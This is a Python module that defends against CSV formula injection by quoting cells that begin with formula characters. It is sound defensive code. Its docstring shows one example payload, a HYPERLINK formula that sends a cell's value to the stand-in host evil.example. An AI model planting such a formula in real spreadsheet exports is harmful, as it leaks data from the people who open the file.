"""Cells a spreadsheet will never run: the one rule for every CSV (or sheet) the bot writes.

A spreadsheet opening a CSV treats a cell that begins with ``=``, ``+``, ``-`` or ``@`` as a
formula, and some strip a leading tab or carriage return first; a note such as
``=HYPERLINK("http://evil.example/?x="&A1,"click")`` would then run on the reader's
machine. Following OWASP's CSV-injection guidance, such a cell is written with a single
quote in front, which spreadsheets show as text. Numbers stay numbers: an ``int`` or
``float`` is never touched, and neither is text that is a plain number (``-12.5``, ``+3``),
which no spreadsheet runs; dates (``2014-01-30``) begin with a digit and are left alone.
Quotes, commas and line breaks inside a cell are the csv module's to quote.

Standard library only, with no import from the bot, so any writer in any layer (the
exports, the board report, an improvement plan) can use it::

    writer = csvsafe.writer(stream)         # csv.writer whose rows are made safe
    writer.writerow(["=1+1", -3, "note"])   # '=1+1,-3,note
"""

from __future__ import annotations

import csv
import re
from collections.abc import Iterable, Mapping
from typing import Any, TextIO

# The first characters that make a spreadsheet read a cell as a formula (OWASP).
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_PLAIN_NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?")


def cell(value: Any) -> Any:
    """``value`` as it is safe to write in a CSV cell: numbers and ``None`` unchanged, text
    that a spreadsheet would run as a formula with a single quote in front."""
    if value is None or isinstance(value, bool | int | float):
        return value
    text = value if isinstance(value, str) else str(value)
    if text.startswith(FORMULA_STARTS) and not _PLAIN_NUMBER.fullmatch(text):
        return "'" + text
    return text


def uncell(text: str) -> str:
    """The text a cell written by :func:`cell` stood for: the single quote it put in front
    of a would-be formula taken off again, so an exported file reads back unchanged."""
    if text.startswith("'") and text[1:].startswith(FORMULA_STARTS):
        return text[1:]
    return text


def row(values: Iterable[Any]) -> list[Any]:
    """Every cell of a row made safe."""
    return [cell(value) for value in values]


class SafeWriter:
    """``csv.writer`` whose every cell goes through :func:`cell`."""

    def __init__(self, stream: TextIO, **options: Any) -> None:
        self._writer = csv.writer(stream, **options)

    def writerow(self, values: Iterable[Any]) -> Any:
        return self._writer.writerow(row(values))

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for values in rows:
            self.writerow(values)


class SafeDictWriter:
    """``csv.DictWriter`` whose every value goes through :func:`cell` (headers are the
    writer's own names, written as given)."""

    def __init__(self, stream: TextIO, fieldnames: list[str], **options: Any) -> None:
        self._writer = csv.DictWriter(stream, fieldnames=fieldnames, **options)

    def writeheader(self) -> Any:
        return self._writer.writeheader()

    def writerow(self, values: Mapping[str, Any]) -> Any:
        return self._writer.writerow({key: cell(value) for key, value in values.items()})

    def writerows(self, rows: Iterable[Mapping[str, Any]]) -> None:
        for values in rows:
            self.writerow(values)


def writer(stream: TextIO, **options: Any) -> SafeWriter:
    return SafeWriter(stream, **options)


def dict_writer(stream: TextIO, fieldnames: list[str], **options: Any) -> SafeDictWriter:
    return SafeDictWriter(stream, fieldnames, **options)
